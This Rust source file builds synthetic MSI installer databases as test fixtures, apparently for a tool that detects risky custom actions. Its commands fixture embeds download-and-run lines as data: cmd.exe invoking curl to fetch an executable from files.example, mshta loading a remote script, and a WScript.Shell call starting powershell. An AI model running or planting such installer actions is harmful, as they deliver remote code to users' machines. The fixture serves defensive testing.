//! Installers of Windows: a writer for their database, in the layout that msitools reads.

use super::Fixture;
use super::cfb::Cfb;

/// CLSID of a package; with 0x82 in its place, of a transform.
const PACKAGE: u8 = 0x84;

fn clsid(kind: u8) -> [u8; 16] {
    [kind, 0x10, 0x0C, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]
}

/// A name of a stream, two characters packed into one.
fn packed(name: &str, is_table: bool) -> String {
    const LETTERS: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._";
    let code = |letter: u8| LETTERS.iter().position(|known| *known == letter).unwrap() as u32;
    let mut out = String::from(if is_table { "\u{4840}" } else { "" });
    for pair in name.as_bytes().chunks(2) {
        let number = match pair {
            [first, second] => 0x3800 + code(*first) + (code(*second) << 6),
            _ => 0x4800 + code(pair[0]),
        };
        out.push(char::from_u32(number).unwrap());
    }
    out
}

/// A cell; a column holds only one kind of them.
#[derive(Clone)]
enum Cell {
    Text(&'static str),
    Number(i32),
}

use Cell::{Number, Text};

/// Name, columns with their types (`_Columns`), rows.
type Table = (&'static str, &'static [(&'static str, u16)], Vec<Vec<Cell>>);

const TEXT: u16 = 0x0D48;
const SHORT: u16 = 0x0502;
const LONG: u16 = 0x0104;

#[derive(Default)]
struct Strings {
    pool: Vec<u8>,
    data: Vec<u8>,
    known: Vec<String>,
}

impl Strings {
    fn number(&mut self, text: &str) -> u32 {
        if text.is_empty() {
            return 0;
        }
        if let Some(at) = self.known.iter().position(|known| known == text) {
            return at as u32 + 1;
        }
        self.known.push(text.to_owned());
        let len = text.len() as u32;
        if len > 0xFFFF {
            // No length, but uses: the length follows.
            self.pool.extend([0, 0, 1, 0]);
            self.pool.extend(len.to_le_bytes());
        } else {
            self.pool.extend((len as u16).to_le_bytes());
            self.pool.extend([1, 0]);
        }
        self.data.extend(text.as_bytes());
        self.known.len() as u32
    }
}

/// A database with these tables; numbers of strings take three bytes where `wide`.
fn database(tables: &[Table], wide: bool, front: &[&str]) -> Cfb {
    let mut strings = Strings::default();
    for text in front {
        strings.number(text);
    }
    let number = |number: u32| number.to_le_bytes()[..if wide { 3 } else { 2 }].to_vec();
    let mut cfb = Cfb::new().clsid(clsid(PACKAGE));
    let mut columns: [Vec<u8>; 4] = Default::default();
    for (name, schema, rows) in tables {
        let mut stream = Vec::new();
        for (at, (column, kind)) in schema.iter().enumerate() {
            columns[0].extend(number(strings.number(name)));
            columns[1].extend((at as u16 + 0x8001).to_le_bytes());
            columns[2].extend(number(strings.number(column)));
            columns[3].extend((kind | 0x8000).to_le_bytes());
            for row in rows {
                stream.extend(match (&row[at], *kind) {
                    (Text(text), _) => number(strings.number(text)),
                    (Number(value), LONG) => ((*value as u32) ^ 0x8000_0000).to_le_bytes().to_vec(),
                    (Number(value), _) => ((*value as u16) ^ 0x8000).to_le_bytes().to_vec(),
                });
            }
        }
        cfb = cfb.stream(&packed(name, true), stream);
    }
    let pool = [&[0xE4, 4, 0, if wide { 0x80 } else { 0 }], strings.pool.as_slice()].concat();
    cfb.stream(&packed("_Columns", true), columns.concat())
        .stream(&packed("_StringPool", true), pool)
        .stream(&packed("_StringData", true), strings.data)
}

fn actions(rows: &[(&'static str, i32, &'static str, &'static str)]) -> Table {
    let schema = &[("Action", TEXT), ("Type", SHORT), ("Source", TEXT), ("Target", TEXT), ("ExtendedType", LONG)];
    let rows = rows.iter().map(|(a, b, c, d)| vec![Text(a), Number(*b), Text(c), Text(d), Number(0)]).collect();
    ("CustomAction", schema, rows)
}

fn sequence(table: &'static str, names: &[&'static str]) -> Table {
    // The last first: numbers decide, not the order of the rows.
    let rows = (1..).zip(names).map(|(at, name)| vec![Text(name), Text(""), Number(at)]).collect::<Vec<_>>();
    let schema = &[("Action", TEXT), ("Condition", TEXT), ("Sequence", SHORT)];
    (table, schema, rows.into_iter().rev().collect())
}

fn pairs(table: &'static str, columns: &'static [(&'static str, u16)], rows: &[(&'static str, &'static str)]) -> Table {
    (table, columns, rows.iter().map(|(key, value)| vec![Text(key), Text(value)]).collect())
}

/// Libraries that start what a property says, scripts in the table itself, buttons, properties put together step by step.
fn commands() -> Cfb {
    const PROPERTY: &[(&str, u16)] = &[("Property", TEXT), ("Value", TEXT)];
    let tables = [
        pairs("Property", PROPERTY, &[("A", "mshta"), ("SCRIPT", "GetObject(\"script:http://files.example/c\")")]),
        pairs("ControlEvent", &[("Event", TEXT), ("Argument", TEXT)], &[("DoAction", "OnButton"), ("[B]", "[A] http")]),
        actions(&[
            (
                "SetData",
                51,
                "Quiet",
                "\"[SystemFolder]cmd.exe\" /c [ENDLESS]curl -o [TempFolder]a.exe http://files.example/a",
            ),
            ("Quiet", 0x401, "Wix4UtilCA", "WixQuietExec"),
            ("More", 51, "B", "[B]://files.example/b"),
            ("Property", 50, "B", "/x"),
            ("Inline", 38, "", "CreateObject(\"WScript.Shell\").Run \"powershell -c hello\""),
            ("FromProperty", 53, "SCRIPT", ""),
            ("OnButton", 34, "TARGETDIR", "{[NONE]not }[\\[]this[\\]].exe"),
            ("Library", 1, "Native", "Entry"),
            ("Failing", 19, "", "Sorry"),
            ("Never", 34, "TARGETDIR", "never.exe"),
        ]),
        sequence("InstallUISequence", &["More", "Property"]),
        sequence(
            "InstallExecuteSequence",
            &["SetData", "Quiet", "More", "Property", "Inline", "FromProperty", "Library", "Failing"],
        ),
    ];
    let long = "x".repeat(70_000);
    database(&tables, true, &[&long]).stream(&packed("Binary.Native", false), b"MZ inert".to_vec())
}

pub(crate) fn fixtures() -> Vec<Fixture> {
    let unscheduled = database(&[actions(&[("Run", 34, "D", "cmd /c hello")])], false, &[]);
    let transform = Cfb::new().clsid(clsid(0x82)).stream(&packed("Binary.Tool", false), b"MZ inert".to_vec());
    vec![
        Fixture::new("msi-commands", "setup.msi", commands().build()),
        Fixture::new("msi-without-sequences", "setup.msi", unscheduled.build()),
        Fixture::new("msi-transform", "setup.mst", transform.build()),
    ]
}
